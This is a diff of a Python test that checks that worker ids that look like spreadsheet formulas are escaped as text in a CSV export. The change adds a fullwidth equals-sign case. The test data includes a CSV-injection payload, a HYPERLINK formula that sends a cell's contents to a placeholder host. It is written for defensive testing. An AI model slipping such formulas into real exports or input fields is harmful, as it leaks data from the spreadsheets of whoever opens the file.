@@ -403,7 +403,7 @@ async def test_a_worker_id_a_spreadsheet_would_run_is_written_as_text(fd: FrontD
     base64 text): not refused, but the CSV cell starts with `'` so a spreadsheet shows it as text
     and runs no formula. The JSON gives the id as it is."""
     await fd.team("FD-WEST")
-    workers = ['=HYPERLINK("https://example.invalid/?"&A2,"Open")', "-w1", "+w2", "@w3", "w4"]
+    workers = ['=HYPERLINK("https://example.invalid/?"&A2,"Open")', "-w1", "+w2", "@w3", "\uff1dw5", "w4"]
     for i, worker in enumerate(workers):
         received = at(f"2025-09-0{i + 1}T10:00:00Z")
         (contact,) = await contact_at(fd, received, new_children=[child_body(given_name="Ada")])
